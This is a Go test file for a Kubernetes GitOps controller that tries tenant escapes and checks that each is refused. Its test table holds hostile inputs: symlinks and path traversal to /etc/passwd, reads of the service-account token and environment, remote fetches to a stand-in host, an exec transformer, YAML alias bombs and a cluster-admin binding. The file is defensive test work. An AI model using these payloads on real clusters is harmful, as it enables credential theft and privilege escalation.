@@ -1,0 +1,286 @@
+package gitsync_test
+
+import (
+	"fmt"
+	"maps"
+	"net"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"sync/atomic"
+	"testing"
+	"time"
+
+	corev1 "k8s.io/api/core/v1"
+	"k8s.io/apimachinery/pkg/api/meta"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	ctrl "sigs.k8s.io/controller-runtime"
+	"sigs.k8s.io/controller-runtime/pkg/client"
+
+	"github.com/tranche-dev/tranche/gitsync"
+	"github.com/tranche-dev/tranche/gitsync/gittest"
+	"github.com/tranche-dev/tranche/plan/v1alpha1"
+	"github.com/tranche-dev/tranche/rollout/clustertest"
+)
+
+// escape is one attempt of a tenant to reach out. MINE, OTHER and HOST are its namespace,
+// the neighbour's, and the address of a server that never answers.
+type escape struct {
+	files map[string]string
+	links map[string]string         // symbolic links, by their names
+	edit  func(*v1alpha1.GitSource) // of the tenant's GitSource, with OTHER's names
+}
+
+// kustomization has a kustomization with one field, beside a ConfigMap and a file.
+func kustomization(field string) escape {
+	return escape{files: map[string]string{"deploy/kustomization.yaml": "resources: [a.yaml]\n" + field + "\n", "deploy/local.txt": "harmless"}}
+}
+
+// only has these files beside those that are applied.
+func only(files map[string]string) escape { return escape{files: files} }
+
+// secretOf names a Secret that is there in the neighbour's namespace alone.
+var secretOf = v1alpha1.LocalObjectReference{Name: "token"}
+
+// escapes are the attempts, by what they try.
+var escapes = map[string]escape{
+	// Files of the controller's machine.
+	"a link to a file":                   {links: map[string]string{"deploy/b.yaml": "/etc/passwd"}},
+	"a link up and out":                  {links: map[string]string{"deploy/b.yaml": "../../../../../../../../etc/passwd"}},
+	"a link to itself":                   {links: map[string]string{"deploy/b.yaml": "b.yaml"}},
+	"a link to a folder":                 {links: map[string]string{"deploy/sub": "/etc"}, files: map[string]string{"deploy/kustomization.yaml": "configMapGenerator: [{name: c, files: [sub/passwd]}]\n"}},
+	"a resource up and out":              kustomization("components: [../../../../../../etc]"),
+	"a generator of a file":              kustomization("configMapGenerator: [{name: c, files: [/etc/passwd]}]"),
+	"a generator of the account's token": kustomization("configMapGenerator: [{name: c, files: [t=/var/run/secrets/kubernetes.io/serviceaccount/token]}]"),
+	"a generator of variables":           kustomization("secretGenerator: [{name: c, envs: [../../../../../../proc/self/environ]}]"),
+	"a repository on disk":               {edit: func(gs *v1alpha1.GitSource) { gs.Spec.URL = "file:///var/lib/other.git" }},
+
+	// URLs in every field that kustomize reads.
+	"resources":             {files: map[string]string{"deploy/kustomization.yaml": "resources: [a.yaml, 'http://HOST/x.yaml']\n"}},
+	"a repository":          {files: map[string]string{"deploy/kustomization.yaml": "resources: [a.yaml, 'git::http://HOST/x.git//deploy?ref=main']\n"}},
+	"bases":                 kustomization("bases: ['http://HOST/x']"),
+	"components":            kustomization("components: ['http://HOST/x.git']"),
+	"files of a ConfigMap":  kustomization("configMapGenerator: [{name: c, files: ['x=http://HOST/x']}]"),
+	"variables":             kustomization("configMapGenerator: [{name: c, envs: ['http://HOST/x']}]"),
+	"files of a Secret":     kustomization("secretGenerator: [{name: c, files: ['x=http://HOST/x']}]"),
+	"patchesStrategicMerge": kustomization("patchesStrategicMerge: ['http://HOST/x?{']"),
+	"patches":               kustomization("patches: [{path: 'http://HOST/x.yaml'}]"),
+	"patchesJson6902":       kustomization("patchesJson6902: [{path: 'http://HOST/x.yaml', target: {version: v1, kind: ConfigMap, name: a}}]"),
+	"crds":                  kustomization("crds: ['http://HOST/x.json']"),
+	"openapi":               kustomization("openapi: {path: 'http://HOST/x.json'}"),
+	"configurations":        kustomization("configurations: ['http://HOST/x.yaml']"),
+	"transformers":          kustomization("transformers: ['http://HOST/x.yaml']"),
+	"generators":            kustomization("generators: ['http://HOST/x.yaml']"),
+	"validators":            kustomization("validators: ['http://HOST/x.yaml']"),
+	"replacements":          kustomization("replacements: [{path: 'http://HOST/x.yaml'}]"),
+	"charts":                kustomization("helmCharts: [{name: x, repo: 'http://HOST/', version: 1.0.0}]"),
+	"a generator that is patched into a URL": only(map[string]string{
+		"deploy/kustomization.yaml":           "resources: [a.yaml]\ngenerators: [generator]\n",
+		"deploy/generator/kustomization.yaml": "resources: [generator.yaml]\npatches:\n- patch: |-\n    - {op: replace, path: /files/0, value: \"stolen=http://HOST/x\"}\n  target: {kind: ConfigMapGenerator}\n",
+		"deploy/generator/generator.yaml":     "apiVersion: builtin\nkind: ConfigMapGenerator\nmetadata: {name: stolen}\nfiles: [stolen=local.txt]\n",
+		"deploy/generator/local.txt":          "harmless", "deploy/local.txt": "harmless",
+	}),
+	"a program": only(map[string]string{
+		"deploy/kustomization.yaml": "resources: [a.yaml]\ntransformers: [run.yaml]\n",
+		"deploy/run.yaml":           "apiVersion: example.org/v1\nkind: Run\nmetadata: {name: run, annotations: {config.kubernetes.io/function: \"exec: {path: ./run.sh}\"}}\n",
+		"deploy/run.sh":             "#!/bin/sh\ncat /etc/passwd\n",
+	}),
+
+	// Bombs.
+	"aliases in a patch": {files: map[string]string{"deploy/kustomization.yaml": bomb()["evil/kustomization.yaml"]}},
+	"aliases in a file":  {files: map[string]string{"deploy/b.yaml": aliases()}},
+
+	// Objects and accounts of others.
+	"an object there":   only(map[string]string{"deploy/b.yaml": configMap("b, namespace: OTHER", "mine")}),
+	"a Secret there":    only(map[string]string{"deploy/b.yaml": "apiVersion: v1\nkind: Secret\nmetadata: {name: token, namespace: OTHER}\nstringData: {value: mine}\n"}),
+	"a Namespace":       only(map[string]string{"deploy/b.yaml": "apiVersion: v1\nkind: Namespace\nmetadata: {name: OTHER, labels: {tranche.dev/drift: correct}}\n"}),
+	"a GitSource there": only(map[string]string{"deploy/b.yaml": "apiVersion: tranche.dev/v1alpha1\nkind: GitSource\nmetadata: {name: mine, namespace: OTHER}\nspec: {url: 'https://HOST/x.git', serviceAccountName: deployer, secretRef: {name: token}}\n"}),
+	"a ClusterRoleBinding": only(map[string]string{"deploy/b.yaml": "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: {name: MINE-all}\n" +
+		"roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}\nsubjects: [{kind: ServiceAccount, name: tenant, namespace: MINE}]\n"}),
+	"a claim without the right": only(map[string]string{"deploy/b.yaml": strings.Replace(configMap("settings, namespace: OTHER", "mine"), "metadata: {", "metadata: {annotations: {tranche.dev/reconcile: disabled}, ", 1)}),
+	"a target namespace":        {edit: func(gs *v1alpha1.GitSource) { gs.Spec.TargetNamespace = "OTHER" }},
+	"another's account":         {edit: func(gs *v1alpha1.GitSource) { gs.Spec.ServiceAccountName = "deployer" }},
+	"another's credentials":     {edit: func(gs *v1alpha1.GitSource) { gs.Spec.SecretRef = &secretOf }},
+	"another's keys":            {edit: func(gs *v1alpha1.GitSource) { gs.Spec.Verify = &v1alpha1.Verification{SecretRef: secretOf} }},
+	"another's source": {edit: func(gs *v1alpha1.GitSource) {
+		gs.Spec.DependsOn = []v1alpha1.NamespacedObjectReference{{Namespace: "OTHER", Name: "neighbour"}}
+	}},
+}
+
+// aliases is a file that is much larger with its aliases written out.
+func aliases() string {
+	text := strings.Builder{}
+	text.WriteString("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: b}\nx:\n- &a0 [x, x, x, x, x, x, x, x, x, x]\n")
+	for i := 1; i < 9; i++ {
+		fmt.Fprintf(&text, "- &a%d [%s]\n", i, strings.TrimSuffix(strings.Repeat(fmt.Sprintf("*a%d, ", i-1), 10), ", "))
+	}
+	return text.String()
+}
+
+// unanswering is a server that takes connections, counts them and never answers.
+func unanswering(t *testing.T) (address string, dialled *atomic.Int64) {
+	t.Helper()
+	l, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	dialled = &atomic.Int64{}
+	var open []net.Conn
+	done := make(chan struct{})
+	go func() {
+		defer close(done)
+		for {
+			c, err := l.Accept()
+			if err != nil {
+				return
+			}
+			dialled.Add(1)
+			open = append(open, c)
+		}
+	}()
+	t.Cleanup(func() {
+		_ = l.Close()
+		<-done
+		for _, c := range open {
+			_ = c.Close()
+		}
+	})
+	return l.Addr().String(), dialled
+}
+
+// Each attempt is refused. The API server has nothing new outside of the tenant's
+// namespace, the tenant is shown nothing of what is there, and no connection is made.
+// The neighbour's commit is applied meanwhile.
+func TestTenantEscapes(t *testing.T) {
+	t.Parallel()
+	s := &tenancy{shop: newShopWithout(t)}
+	s.other = s.c.Namespace(t)
+	there := &shop{T: t, c: s.c, ns: s.other, repo: gittest.NewRepo(t)}
+	s.admin("tenant")
+	there.admin("deployer")
+	s.t(s.c.KubectlWith(t, theirs, "apply", "-n", s.other, "-f", "-"))
+	host, dialled := unanswering(t)
+	t.Cleanup(s.startManager(s.c.Controller, func(mgr ctrl.Manager) error {
+		return gitsync.Add(mgr, gitsync.Options{Renderer: renderers(), StorageDir: t.TempDir(), Concurrent: 4, NoRemoteBases: true, NoCrossNamespaceRefs: true, FileRoots: []string{os.TempDir()}, DefaultServiceAccount: "nobody"})
+	}, s.other))
+	s.commit = s.push(map[string]string{"deploy/a.yaml": configMap("a", "one")})
+	s.source(func(gs *v1alpha1.GitSource) { gs.Spec.ServiceAccountName = "tenant" })
+	s.applied(s.commit)
+	there.repo.CommitAndPush(map[string]string{"deploy/news.yaml": configMap("news", "v0")})
+	neighbour := &v1alpha1.GitSource{ObjectMeta: metav1.ObjectMeta{Name: "neighbour", Namespace: s.other},
+		Spec: v1alpha1.GitSourceSpec{URL: there.repo.URL(), Path: "deploy", ServiceAccountName: "deployer", Interval: metav1.Duration{Duration: time.Hour}}}
+	s.must(s.c.Client.Create(t.Context(), neighbour))
+	t.Cleanup(func() { there.end("neighbour") })
+	there.holds("news", "v0")
+
+	n, slowest := 0, time.Duration(0)
+	for _, name := range slices.Sorted(maps.Keys(escapes)) {
+		try := escapes[name]
+		t.Run(name, func(t *testing.T) {
+			s, there := s.in(t), there.in(t)
+			before := s.outside()
+			s.attempt(try, strings.NewReplacer("MINE", s.ns, "OTHER", s.other, "HOST", host))
+			n++
+			began := time.Now()
+			there.repo.CommitAndPush(map[string]string{"deploy/news.yaml": configMap("news", fmt.Sprintf("v%d", n))})
+			there.holds("news", fmt.Sprintf("v%d", n))
+			slowest = max(slowest, time.Since(began))
+			s.isRefused(try)
+			s.leavesOutside(before)
+			if d := dialled.Load(); d > 0 {
+				t.Errorf("%d connections were made: %s", d, said(s.gs()))
+			}
+			t.Log(said(s.gs()))
+			if try.edit != nil {
+				s.edit(func(gs *v1alpha1.GitSource) {
+					gs.Spec = v1alpha1.GitSourceSpec{URL: s.repo.URL(), Path: "deploy", Prune: true, Ref: gs.Spec.Ref, Interval: gs.Spec.Interval, Timeout: gs.Spec.Timeout, ServiceAccountName: "tenant"}
+				})
+			}
+		})
+	}
+	if n < 30 {
+		t.Errorf("%d attempts were made", n)
+	}
+	t.Logf("%d attempts; the neighbour's commit took %s at most", n, slowest.Round(time.Millisecond))
+	s.reset() // the honest way is open as before
+	s.applied(s.push(map[string]string{"deploy/a.yaml": configMap("a", "two")}))
+	s.holds("a", "two")
+}
+
+// attempt pushes what a tenant tries, or changes its GitSource.
+func (s *tenancy) attempt(try escape, names *strings.Replacer) {
+	s.Helper()
+	if try.edit != nil {
+		s.reset()
+		gs := s.gs()
+		before := gs.DeepCopy()
+		try.edit(gs)
+		gs.Spec.TargetNamespace = names.Replace(gs.Spec.TargetNamespace)
+		for i := range gs.Spec.DependsOn {
+			gs.Spec.DependsOn[i].Namespace = names.Replace(gs.Spec.DependsOn[i].Namespace)
+		}
+		s.must(s.c.Client.Patch(s.Context(), gs, client.MergeFrom(before)))
+		return
+	}
+	s.repo.Git("checkout", "-q", s.commit)
+	s.repo.Git("checkout", "-q", "-B", "main")
+	for name, target := range try.links {
+		path := filepath.Join(s.repo.Work, name)
+		s.must(os.MkdirAll(filepath.Dir(path), 0o755))
+		s.must(os.Symlink(target, path))
+	}
+	files := map[string]string{"deploy/a.yaml": configMap("a", s.Name())} // one commit of its own for each try
+	for name, content := range try.files {
+		files[name] = names.Replace(content)
+	}
+	s.repo.Commit(files, s.Name())
+	s.repo.Push("--force")
+}
+
+// isRefused waits until the GitSource says so of what was tried.
+func (s *tenancy) isRefused(try escape) {
+	s.Helper()
+	clustertest.Wait(s, "the refusal", func() error {
+		gs := s.gs()
+		ready := meta.FindStatusCondition(gs.Status.Conditions, "Ready")
+		seen := gs.Status.ObservedGeneration == gs.Generation && (try.edit != nil || gs.Status.ObservedCommit == s.repo.Head())
+		if !seen || ready == nil || ready.Status != metav1.ConditionFalse {
+			return fmt.Errorf("%s", said(gs))
+		}
+		return nil
+	})
+	if v := get(s.shop, "a", &corev1.ConfigMap{}).Data["value"]; v != "one" {
+		s.Errorf("a part of it was applied: %q", v)
+	}
+}
+
+// outside is the state of all but the GitSource that is tried with and what the neighbour
+// commits.
+func (s *tenancy) outside() map[string]string {
+	s.Helper()
+	state := s.state()
+	delete(state, "GitSource "+s.ns+"/shop")
+	delete(state, "ConfigMap "+s.other+"/news")
+	return state
+}
+
+// leavesOutside compares with an earlier state, and looks for the neighbour's secret in
+// what the tenant can see.
+func (s *tenancy) leavesOutside(before map[string]string) {
+	s.Helper()
+	now := s.outside()
+	for name := range maps.Keys(now) {
+		if now[name] != before[name] {
+			s.Errorf("%s was written: %s, before %s", name, now[name], before[name])
+		}
+	}
+	for name := range before {
+		if _, ok := now[name]; !ok {
+			s.Errorf("%s is gone", name)
+		}
+	}
+	if m := said(s.gs()); strings.Contains(m, secret) || strings.Contains(m, "root:x:0:0") {
+		s.Errorf("it tells what the tenant may not read: %s", m)
+	}
+}
